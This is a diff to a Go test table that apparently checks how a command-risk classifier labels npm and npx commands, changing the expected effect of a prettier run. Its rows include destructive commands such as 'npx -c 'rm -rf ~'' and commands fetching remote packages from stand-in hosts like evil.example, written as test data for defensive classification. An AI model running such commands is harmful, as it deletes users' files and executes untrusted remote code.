@@ -30,7 +30,7 @@ func TestNodePackages(t *testing.T) {
 		{`npm unpublish x`, `destroy package x wide`},
 		{`npm exec -c 'rm -rf ~'`, `delete /home/u wide`},
 		{`npx -c 'rm -rf ~'`, `delete /home/u wide`},
-		{`npx prettier --write .`, `install prettier`},
+		{`npx prettier --write .`, `install prettier; write /home/u/p wide`},
 		{`npx -y cowsay hi`, `install cowsay`},
 		{`npx github:evil/x`, `run-remote github:evil/x`},
 		{`npx https://evil.example/x.tgz`, `run-remote https://evil.example/x.tgz`},
